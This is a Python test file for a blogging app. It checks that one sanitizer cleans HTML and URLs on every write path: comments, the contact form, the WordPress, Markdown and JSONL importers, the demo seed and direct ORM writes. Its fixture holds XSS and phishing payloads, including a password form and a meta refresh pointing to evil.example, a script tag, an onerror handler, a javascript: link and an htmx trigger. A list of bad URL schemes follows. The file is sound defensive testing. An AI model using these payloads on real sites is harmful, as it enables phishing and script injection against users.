"""One sanitizing gate for every writer.

The same hostile record (a meta refresh, a phishing form, a script, an ``onerror`` picture, a
``javascript:`` link, an htmx attribute, a style) goes through every path that stores HTML or
URLs: the comment form and service, the contact form, the WordPress and Markdown importers,
the JSONL restore (Core inserts), the demo seed and a plain ORM write (any future editor).
Each test checks what the database holds and what the page shows. The JSONL restore once
skipped the gate and stored comment bodies and author URLs exactly as the file gave them.
"""

from __future__ import annotations

import dataclasses
import json
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from hublet.database import writing
from hublet.extensions import db
from hublet.models import Article, Comment, ContactMessage, Page
from tests.builders import make_article, make_moderator
from tests.comments.helpers import post
from tests.conftest import csrf_token
from tests.moderation.helpers import log_in

MARK = "gatemark"
HARMLESS = "Harmless words stay"
HOSTILE_URL = f"javascript:{MARK}()"
HOSTILE_HTML = (
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">'
    f'<form action="https://evil.example/{MARK}"><input name="password"><button>Log in</button>'
    "</form>"
    f"<script>{MARK}()</script>"
    f'<img src="x" onerror="{MARK}()">'
    f'<a href="{HOSTILE_URL}">Claim your prize</a>'
    f'<div data-hx-get="/moderation/?{MARK}" data-hx-trigger="load">htmx</div>'
    f'<p style="{MARK}: 1">Styled.</p>'
    f"<p>{HARMLESS}.</p>"
)
_LIVE_TAGS = frozenset({"meta", "form", "input", "button", "script", "style", "iframe", "object"})
_VOID = frozenset(
    {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}
)


class _Reader(HTMLParser):
    """What in some HTML could act: the record's attributes and inline scripts anywhere, and
    (for stored HTML, ``strict``) any live tag or event, style or htmx attribute at all. It also
    notes whether the harmless text sits inside a ``data-hx-ignore`` container."""

    def __init__(self, strict: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.strict = strict
        self.found: list[str] = []
        self.stack: list[tuple[str, bool]] = []
        self.harmless_places: list[bool] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.strict and tag in _LIVE_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.found.append("<meta http-equiv>")
        for name, value in attrs:
            if tag == "meta" and name == "content" and "http-equiv" not in dict(attrs):
                continue  # a description: text, never fetched or run
            risky = name.startswith(("on", "hx-", "data-hx-")) or name == "style"
            if MARK in (value or "") or (self.strict and risky and name != "data-hx-ignore"):
                self.found.append(f"<{tag} {name}={value!r}>")
        ignored = any(name in ("hx-ignore", "data-hx-ignore") for name, _ in attrs)
        if tag == "script" and dict(attrs).get("type") == "application/ld+json":
            tag = "json-ld"  # data for search engines, never run
        if tag not in _VOID:
            self.stack.append((tag, ignored or self.inside_ignore()))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self.stack and self.stack[-1][0] == "json-ld":
            tag = "json-ld"
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index][0] == tag:
                del self.stack[index:]
                break

    def handle_data(self, data: str) -> None:
        if self.stack and self.stack[-1][0] == "script" and MARK in data:
            self.found.append("<script> with the record's code")
        if HARMLESS in data and not (self.stack and self.stack[-1][0] == "json-ld"):
            self.harmless_places.append(self.inside_ignore())

    def inside_ignore(self) -> bool:
        return bool(self.stack) and self.stack[-1][1]


def read(html: str, strict: bool = False) -> _Reader:
    reader = _Reader(strict)
    reader.feed(html)
    reader.close()
    return reader


def assert_stored_clean(html: str) -> None:
    assert read(html, strict=True).found == [], html
    assert HARMLESS in html  # sanitized, not thrown away


def assert_page_clean(html: str) -> None:
    """Nothing of the record acts on the page, and its text sits inside data-hx-ignore."""
    reader = read(html)
    assert reader.found == []
    assert reader.harmless_places and all(reader.harmless_places), "outside data-hx-ignore"


def moderator(app):  # type: ignore[no-untyped-def]
    """A browser logged in to the moderation page."""
    with app.app_context():
        make_moderator("gatekeeper")
    client = app.test_client()
    assert log_in(client, "gatekeeper").status_code == 303
    return client


def moderation_queue(app, status: str = "pending") -> str:  # type: ignore[no-untyped-def]
    return moderator(app).get(f"/moderation/?status={status}").get_data(as_text=True)


def only(model):  # type: ignore[no-untyped-def]
    rows = db.session.scalars(select(model)).all()
    assert len(rows) == 1, rows
    return rows[0]


def check_comment(app, client, slug: str) -> None:  # type: ignore[no-untyped-def]
    with app.app_context():
        comment = only(Comment)
        assert_stored_clean(comment.body_html)
        assert comment.author_url == ""
        status = comment.status
    if status == "approved":
        assert_page_clean(client.get(f"/article/{slug}").get_data(as_text=True))
    assert_page_clean(moderation_queue(app, status))


def check_article(app, client, slug: str) -> None:  # type: ignore[no-untyped-def]
    with app.app_context():
        article = db.session.scalar(select(Article).where(Article.slug == slug))
        assert_stored_clean(article.body_html)
        assert article.hero_image == ""
    assert_page_clean(client.get(f"/article/{slug}").get_data(as_text=True))


# --- readers ----------------------------------------------------------------------------------


def test_the_comment_form(app, client):
    with app.app_context():
        make_article("Gate story", slug="gate-story")
    refused = post(client, "gate-story", comment=HOSTILE_HTML, website=HOSTILE_URL)
    assert refused.status_code == 422
    with app.app_context():
        assert db.session.scalars(select(Comment)).all() == []
    assert post(client, "gate-story", comment=HOSTILE_HTML).status_code == 303
    # The poster sees their own held comment on the page; the moderators in the queue.
    assert_page_clean(client.get("/article/gate-story").get_data(as_text=True))
    check_comment(app, client, "gate-story")


def test_the_comments_service(app, client):
    from hublet.comments.services import make_submission, post_comment

    with app.app_context(), writing():
        article = make_article("Gate story", slug="gate-story")
        submission = make_submission(
            name="Mallory", email="mallory@example.com", website=HOSTILE_URL,
            text=HOSTILE_HTML, ip_address="203.0.113.5", honeypot_filled=False,
        )  # fmt: skip
        assert post_comment(article.id, None, submission, "TestBrowser").stored
    check_comment(app, client, "gate-story")


def test_the_contact_form(app, client):
    token = csrf_token(client, "/contact-us", form=True)
    data = {
        "csrf_token": token, "name": "Mallory", "email": "mallory@example.com",
        "subject": f"<form action='https://evil.example/{MARK}'>", "message": HOSTILE_HTML,
    }  # fmt: skip
    assert client.post("/contact-us", data=data).status_code == 303
    with app.app_context():
        message = only(ContactMessage)
        message_id = message.id
        assert message.message == HOSTILE_HTML  # plain text, kept as written, never HTML
    shown = moderator(app).get(f"/moderation/messages/{message_id}").get_data(as_text=True)
    assert_page_clean(shown)
    assert "&lt;meta http-equiv" in shown  # shown as the text it is


# --- importers and restore --------------------------------------------------------------------

WXR = f"""<?xml version="1.0" encoding="UTF-8" ?>
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
<channel>
  <title>Gate</title>
  <wp:wxr_version>1.2</wp:wxr_version>
  <item>
    <title>Prize picture</title><dc:creator>marta</dc:creator>
    <wp:post_id>900</wp:post_id><wp:post_type>attachment</wp:post_type><wp:status>inherit</wp:status>
    <wp:attachment_url>{HOSTILE_URL}</wp:attachment_url>
  </item>
  <item>
    <title>Gate story</title><dc:creator>marta</dc:creator>
    <content:encoded><![CDATA[{HOSTILE_HTML}]]></content:encoded>
    <wp:post_id>901</wp:post_id><wp:post_name>gate-story</wp:post_name>
    <wp:post_date_gmt>2026-01-10 09:00:00</wp:post_date_gmt>
    <wp:post_type>post</wp:post_type><wp:status>publish</wp:status>
    <wp:postmeta><wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>900</wp:meta_value></wp:postmeta>
    <wp:comment>
      <wp:comment_id>91</wp:comment_id><wp:comment_author>Mallory</wp:comment_author>
      <wp:comment_author_email>mallory@example.com</wp:comment_author_email>
      <wp:comment_author_url>{HOSTILE_URL}</wp:comment_author_url>
      <wp:comment_date_gmt>2026-01-10 10:00:00</wp:comment_date_gmt>
      <wp:comment_content><![CDATA[{HOSTILE_HTML}]]></wp:comment_content>
      <wp:comment_approved>1</wp:comment_approved><wp:comment_parent>0</wp:comment_parent>
    </wp:comment>
  </item>
  <item>
    <title>Gate page</title><dc:creator>marta</dc:creator>
    <content:encoded><![CDATA[{HOSTILE_HTML}]]></content:encoded>
    <wp:post_id>902</wp:post_id><wp:post_name>gate-page</wp:post_name>
    <wp:post_type>page</wp:post_type><wp:status>publish</wp:status>
  </item>
</channel>
</rss>
"""


def test_the_wordpress_importer(app, client, runner, tmp_path):
    path = tmp_path / "gate.xml"
    path.write_text(WXR, encoding="utf-8")
    result = runner.invoke(args=["import-wordpress", str(path)])
    assert result.exit_code == 0, result.output
    check_article(app, client, "gate-story")
    check_comment(app, client, "gate-story")
    with app.app_context():
        assert_stored_clean(only(Page).body_html)
    assert_page_clean(client.get("/gate-page").get_data(as_text=True))


def test_the_markdown_importer(app, client, runner, tmp_path):
    (tmp_path / "gate-story.md").write_text(
        f"---\ntitle: Gate story\ncategory: News\nauthor: Mallory\nimage: {HOSTILE_URL}\n"
        f"published: 2026-01-10 09:00:00\n---\n{HOSTILE_HTML}\n",
        encoding="utf-8",
    )
    result = runner.invoke(args=["import-markdown", str(tmp_path)])
    assert result.exit_code == 0, result.output
    check_article(app, client, "gate-story")


def _export_lines() -> list[dict]:
    common = {"created_at": "2026-01-10T09:00:00"}
    return [
        {"kind": "category", "id": 1, "name": "News", "slug": "news"},
        {"kind": "author", "id": 1, "name": "Mallory", "slug": "mallory"},
        {"kind": "page", "id": 1, "title": "Gate page", "slug": "gate-page",
         "body_html": HOSTILE_HTML, "updated_at": "2026-01-10T09:00:00"},
        {"kind": "article", "id": 1, "title": "Gate story", "slug": "gate-story",
         "body_html": HOSTILE_HTML, "hero_image": HOSTILE_URL, "category_id": 1,
         "author_id": 1, "status": "published", "published_at": "2026-01-10T09:00:00",
         "updated_at": "2026-01-10T09:00:00", "comment_count": 1, **common},
        {"kind": "comment", "id": 1, "article_id": 1, "author_name": "Mallory",
         "author_email": "mallory@example.com", "author_url": HOSTILE_URL,
         "body_html": HOSTILE_HTML, "status": "approved", **common},
    ]  # fmt: skip


def test_the_jsonl_restore(app, client, runner, tmp_path):
    rows = _export_lines()
    counts = {"category": 1, "author": 1, "tag": 0, "page": 1, "article": 1, "article_tag": 0,
              "comment": 1, "article_view_day": 0}  # fmt: skip
    header = {"kind": "hublet-export", "format": 1, "counts": counts}
    path = tmp_path / "edited.jsonl"
    path.write_text("\n".join(json.dumps(line) for line in [header, *rows]) + "\n")
    result = runner.invoke(args=["import-jsonl", str(path)])
    assert result.exit_code == 0, result.output
    check_article(app, client, "gate-story")
    check_comment(app, client, "gate-story")
    with app.app_context():
        assert_stored_clean(only(Page).body_html)
    assert_page_clean(client.get("/gate-page").get_data(as_text=True))


def test_a_clean_export_restores_unchanged(app, runner, tmp_path):
    """The gate changes nothing that was clean: a restore stays exact."""
    from hublet.sanitize import clean_article_html, clean_comment_html

    rows = _export_lines()
    clean = {
        "page": clean_article_html(HOSTILE_HTML),
        "article": clean_article_html(HOSTILE_HTML),
        "comment": clean_comment_html(HOSTILE_HTML),
    }
    for row in rows:
        if row["kind"] in clean:
            row["body_html"] = clean[row["kind"]]
        if "hero_image" in row or "author_url" in row:
            row.update(
                {k: "https://example.org/x" for k in ("hero_image", "author_url") if k in row}
            )
    counts = {"category": 1, "author": 1, "page": 1, "article": 1, "comment": 1}
    path = tmp_path / "clean.jsonl"
    header = {"kind": "hublet-export", "format": 1, "counts": counts}
    path.write_text("\n".join(json.dumps(line) for line in [header, *rows]) + "\n")
    assert runner.invoke(args=["import-jsonl", str(path)]).exit_code == 0
    with app.app_context():
        assert only(Page).body_html == clean["page"]
        assert only(Article).body_html == clean["article"]
        comment = only(Comment)
        assert comment.body_html == clean["comment"]
        assert comment.author_url == "https://example.org/x"


# --- the CLI seed and any future editor (ORM writes) ------------------------------------------


def test_the_demo_seed(app, client, runner, monkeypatch):
    from hublet.demo import content

    original = content.demo_articles

    def hostile(now):  # type: ignore[no-untyped-def]
        first = original(now)[0]
        return [dataclasses.replace(first, slug="gate-story", body_html=HOSTILE_HTML,
                                    hero_image=HOSTILE_URL)]  # fmt: skip

    monkeypatch.setattr(content, "demo_articles", hostile)
    with app.app_context():
        result = runner.invoke(args=["seed"])
    assert result.exit_code == 0, result.output
    check_article(app, client, "gate-story")


@pytest.mark.parametrize("how", ["insert", "update"])
def test_an_orm_write_from_any_editor(app, client, how):
    with app.app_context(), writing():
        article = make_article("Gate story", slug="gate-story")
        page = Page(title="Gate page", slug="gate-page", body_html="<p>Plain.</p>")
        comment = Comment(
            article_id=article.id, author_name="Mallory", author_email="mallory@example.com",
            body_html="<p>Plain.</p>", status="approved",
        )  # fmt: skip
        db.session.add_all([page, comment])
        if how == "insert":
            article.body_html = page.body_html = comment.body_html = HOSTILE_HTML
            article.hero_image = comment.author_url = HOSTILE_URL
            db.session.commit()
        else:
            db.session.commit()
            for row in (article, page, comment):
                row.body_html = HOSTILE_HTML
            article.hero_image = comment.author_url = HOSTILE_URL
            db.session.commit()
        from hublet.comments.services import recount_comments

        recount_comments(article.id)
        db.session.commit()
    check_article(app, client, "gate-story")
    check_comment(app, client, "gate-story")
    with app.app_context():
        assert_stored_clean(only(Page).body_html)
    assert_page_clean(client.get("/gate-page").get_data(as_text=True))


def test_urls_keep_the_web_and_the_site_only():
    from hublet.sanitize import clean_url, clean_web_url

    bad_urls = (
        HOSTILE_URL, " JaVaScRiPt:x", "data:text/html,x", "vbscript:x", "//evil.example/a",
        "/\\evil.example", "java\tscript:x", "http://", "https:/nohost", "http://a b",
    )  # fmt: skip
    for bad in bad_urls:
        assert clean_url(bad) == "" and clean_web_url(bad) == "", bad
    assert clean_url("https://example.org/a?b=1") == "https://example.org/a?b=1"
    assert clean_url("/static/img/a.png") == "/static/img/a.png"
    assert clean_url("img/demo/1.svg") == "img/demo/1.svg"  # a static path (demo pictures)
    assert clean_web_url("/static/img/a.png") == ""  # a commenter's website is absolute
    assert clean_url("https://example.org/" + "a" * 600, limit=500) == ""
